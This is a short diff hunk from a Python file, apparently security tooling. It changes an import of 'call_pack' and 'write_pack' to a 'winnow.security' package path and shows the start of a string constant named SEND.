@@ -6,7 +6,7 @@ import subprocess
 import sys
 from pathlib import Path
 
-from security.tool_packs import call_pack, write_pack
+from winnow.security.tool_packs import call_pack, write_pack
 
 SEND = """
 import socket
